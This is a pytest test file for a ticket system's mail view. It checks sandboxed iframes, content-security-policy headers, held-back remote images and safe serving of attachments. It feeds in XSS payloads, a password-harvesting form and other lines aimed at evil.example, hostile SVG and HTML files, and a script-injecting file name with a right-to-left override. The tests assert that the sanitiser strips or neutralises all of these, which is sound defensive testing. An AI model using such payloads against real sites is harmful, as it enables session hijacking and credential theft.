"""HTML and files of mail: shown safely, from addresses of their own, under policies of their own."""

from __future__ import annotations

import re
from email.message import EmailMessage

import pytest

from psa.extensions import db
from psa.tickets.models import Attachment
from tests.mailroom import letter

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20


def html_letter(html: str) -> EmailMessage:
    message = letter("Plain words")
    message.add_alternative(html, subtype="html")
    return message


def file_letter(name: str, kind: str, data: bytes) -> EmailMessage:
    message = letter("See the file")
    maintype, subtype = kind.split("/")
    message.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return message


def attachment() -> Attachment:
    return db.session.scalars(db.select(Attachment).order_by(Attachment.id.desc())).first()


def test_html_stands_in_a_sandboxed_frame_and_not_in_the_page(sign_in, mailroom):
    mailroom.receive(html_letter("<p>Some <b>bold</b> words</p>"))
    page = sign_in().get("/tickets/1").text
    frame = re.search(r"<iframe[^>]*>", page)
    assert frame
    assert 'src="/comments/1/body"' in frame[0]
    assert "allow-scripts" not in frame[0]
    assert "<b>bold</b>" not in page


def test_html_has_its_own_strict_policy(sign_in, mailroom):
    mailroom.receive(html_letter("<p>Some <b>bold</b> words</p>"))
    body = sign_in().get("/comments/1/body")
    policy = body.headers["Content-Security-Policy"]
    assert "<b>bold</b>" in body.text
    assert policy.startswith("sandbox ")
    assert "default-src 'none'" in policy
    assert "script" not in policy
    assert "https:" not in policy
    assert body.headers["Referrer-Policy"] == "no-referrer"


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<iframe src='https://evil.example'></iframe>",
        "<form action='https://evil.example'><input name=password></form>",
        "<style>body{background:url(https://evil.example)}</style>",
        "<base href='https://evil.example'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<svg onload=alert(1)>",
        "<p style='background:url(https://evil.example/x)'>x</p>",
    ],
)
def test_attacks_in_html_are_taken_out(sign_in, mailroom, attack):
    mailroom.receive(html_letter(f"<p>Hello</p>{attack}"))
    body = sign_in().get("/comments/1/body").text.partition("<body>")[2]
    assert "Hello" in body
    for sign in (
        "<script",
        "onerror",
        "javascript:",
        "<iframe",
        "<form",
        "<style",
        "<base",
        "<meta",
        "onload",
        "evil.example",
    ):
        assert sign not in body, sign


def test_remote_images_are_held_back_until_asked_for(sign_in, mailroom):
    mailroom.receive(html_letter('<p>Hi</p><img src="https://tracker.example/1.png">'))
    browser = sign_in()
    held = browser.get("/comments/1/body")
    assert "Remote images are held back." in held.text
    assert "tracker.example" not in held.text
    shown = browser.get("/comments/1/body?images=1")
    assert "https://tracker.example/1.png" in shown.text
    assert "img-src 'self' data: https:" in shown.headers["Content-Security-Policy"]
    assert "Remote images are held back." not in shown.text


def test_an_embedded_image_is_shown_in_its_place_and_not_listed_again(sign_in, mailroom):
    message = html_letter('<p>Look: <img src="cid:photo@x"></p>')
    message.get_payload()[1].add_related(PNG, "image", "png", cid="<photo@x>", filename="photo.png")
    mailroom.receive(message)
    browser = sign_in()
    source = re.search(r'<img src="(/attachments/[^"]+)"', browser.get("/comments/1/body").text)
    assert source
    assert browser.get(source[1]).data == PNG
    assert 'class="files"' not in browser.get("/tickets/1").text


def test_html_of_a_comment_that_is_no_mail_is_404(sign_in, mailroom):
    mailroom.receive(letter())
    browser = sign_in()
    browser.post("/tickets/1/notes", data={"body": "x"})
    assert browser.get("/comments/2/body").status_code == 404
    assert browser.get("/comments/99/body").status_code == 404


def test_pictures_are_shown_and_everything_else_is_downloaded(sign_in, mailroom):
    browser = sign_in()
    for name, kind, data, shown in (
        ("a.png", "image/png", PNG, True),
        ("a.html", "text/html", b"<script>alert(1)</script>", False),
        ("a.svg", "image/svg+xml", b"<svg onload='alert(1)'/>", False),
        ("a.pdf", "application/pdf", b"%PDF-1.4", False),
        ("a.xml", "application/xhtml+xml", b"<html/>", False),
    ):
        mailroom.receive(file_letter(name, kind, data))
        response = browser.get(f"/attachments/{attachment().id}/{name}")
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("inline" if shown else "attachment"), name
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Security-Policy"].startswith("sandbox;")
        assert response.data.rstrip() == data


def test_a_hostile_file_name_breaks_neither_the_page_nor_the_header(sign_in, mailroom):
    mailroom.receive(file_letter('"><script>alert(1)</script>\u202efdp.exe', "application/octet-stream", b"MZ"))
    browser = sign_in()
    page = browser.get("/tickets/1").text
    assert "<script>alert" not in page
    address = re.search(r'href="(/attachments/[^"]+)"', page)
    assert address
    response = browser.get(address[1])
    assert response.status_code == 200
    assert "\n" not in response.headers["Content-Disposition"]


def test_files_are_for_staff_only(browser, mailroom):
    mailroom.receive(file_letter("a.txt", "text/plain", b"secret"))
    assert browser.get("/attachments/1/a.txt").status_code == 303
    assert browser.get("/comments/1/body").status_code == 303
